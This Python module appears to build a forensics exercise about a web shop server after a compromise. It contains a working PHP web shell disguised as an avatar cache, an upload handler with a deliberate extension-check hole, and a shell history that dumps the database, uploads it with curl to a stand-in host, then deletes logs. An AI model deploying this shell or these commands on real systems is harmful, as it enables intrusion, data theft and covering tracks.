"""Contents of the linux-server scenario: a small web shop server after a compromise."""

from __future__ import annotations

ATTACKER = "203.0.113.77"
ACCOUNT = "deploy"
SHELL_PATH = "/var/www/html/uploads/avatar_5512.php"
DELETED_LOG = "/var/log/apache2/access.log"
EXFIL_HOST = "paste.drop-zone.example"
UA = "Mozilla/5.0 (X11; Linux x86_64; rv:89.0) Gecko/20100101 Firefox/89.0"

WEBSHELL = """<?php
// avatar thumbnail cache
if (isset($_REQUEST['c'])) { echo '<pre>'; system($_REQUEST['c']); echo '</pre>'; }
if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], basename($_FILES['f']['name'])); }
?>
"""

UPLOAD = """<?php
require __DIR__ . '/config.php';
// Profile picture upload. BUG: only the client-side check restricts the extension.
if ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_FILES['avatar'])) {
    $name = 'avatar_' . random_int(1000, 9999) . '_' . basename($_FILES['avatar']['name']);
    move_uploaded_file($_FILES['avatar']['tmp_name'], __DIR__ . '/uploads/' . $name);
    echo json_encode(['ok' => true]);
}
"""

CONFIG = """<?php
$db_host = 'localhost';
$db_name = 'shop';
$db_user = 'shop';
$db_pass = 'Summer2021!';
"""


def _access(day: str, rows: list[tuple[str, str, str, int, int]]) -> str:
    return "".join(f'{ip} - - [{day}:{t} +0000] "{req}" {code} {size} "-" "{UA if ip == ATTACKER else "Mozilla/5.0"}"\n'
                   for t, ip, req, code, size in rows)


def access_log() -> str:
    """The access log the attacker deleted: the upload and the web shell requests."""
    shell = "/uploads/avatar_5512.php"
    rows = [
        ("01:58:02", "198.51.100.23", "GET / HTTP/1.1", 200, 5120),
        ("02:03:41", ATTACKER, "GET /account/profile.php HTTP/1.1", 200, 3411),
        ("02:14:37", ATTACKER, "POST /upload.php HTTP/1.1", 200, 11),
        ("02:15:02", ATTACKER, f"GET {shell}?c=id HTTP/1.1", 200, 64),
        ("02:15:20", ATTACKER, f"GET {shell}?c=cat+../config.php HTTP/1.1", 200, 112),
        ("02:16:05", ATTACKER, f"GET {shell}?c=grep+deploy+/etc/passwd HTTP/1.1", 200, 61),
        ("02:17:12", "198.51.100.23", "GET /catalog.php?page=2 HTTP/1.1", 200, 7210),
    ]
    return _access("20/Jun/2021", rows)


def old_access_log() -> str:
    rows = [("09:12:00", "198.51.100.23", "GET / HTTP/1.1", 200, 5120),
            ("09:12:03", "198.51.100.23", "GET /catalog.php HTTP/1.1", 200, 7002),
            ("17:40:51", "192.0.2.14", "GET /account/profile.php HTTP/1.1", 302, 0)]
    return _access("19/Jun/2021", rows)


def auth_log() -> str:
    lines = [
        "Jun 20 00:17:01 web01 CRON[2210]: pam_unix(cron:session): session opened for user root by (uid=0)",
        f"Jun 20 02:18:09 web01 sshd[2291]: Failed password for root from {ATTACKER} port 51022 ssh2",
        f"Jun 20 02:18:15 web01 sshd[2291]: Failed password for {ACCOUNT} from {ATTACKER} port 51022 ssh2",
        f"Jun 20 02:19:30 web01 sshd[2297]: Accepted password for {ACCOUNT} from {ATTACKER} port 51040 ssh2",
        f"Jun 20 02:19:30 web01 sshd[2297]: pam_unix(sshd:session): session opened for user {ACCOUNT}(uid=1001) by (uid=0)",
        f"Jun 20 02:26:12 web01 sshd[2297]: pam_unix(sshd:session): session closed for user {ACCOUNT}",
    ]
    return "\n".join(lines) + "\n"


def syslog() -> str:
    lines = [
        "Jun 20 00:00:01 web01 systemd[1]: Starting Rotate log files...",
        "Jun 20 00:00:02 web01 systemd[1]: logrotate.service: Succeeded.",
        "Jun 20 02:21:40 web01 kernel: [81234.551203] audit: type=1400 apparmor=\"ALLOWED\" operation=\"exec\" "
        "profile=\"/usr/sbin/mysqld\" name=\"/usr/bin/mysqldump\"",
    ]
    return "\n".join(lines) + "\n"


def bash_history() -> str:
    cmds = ["id", "sudo -l", "ls -la /var/www/html", "mysqldump -u shop -p'Summer2021!' shop > /tmp/.s.sql",
            "gzip /tmp/.s.sql", f"curl -s -T /tmp/.s.sql.gz https://{EXFIL_HOST}/u/7f3k",
            "rm -f /tmp/.s.sql.gz", f"rm -f {DELETED_LOG}", "history -c", "exit"]
    return "\n".join(cmds) + "\n"


PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:105:65534::/run/sshd:/usr/sbin/nologin
mysql:x:106:112:MySQL Server,,,:/nonexistent:/bin/false
deploy:x:1001:1001:Deploy user,,,:/home/deploy:/bin/bash
"""

OS_RELEASE = """PRETTY_NAME="Debian GNU/Linux 11 (bullseye)"
NAME="Debian GNU/Linux"
VERSION_ID="11"
VERSION="11 (bullseye)"
ID=debian
"""
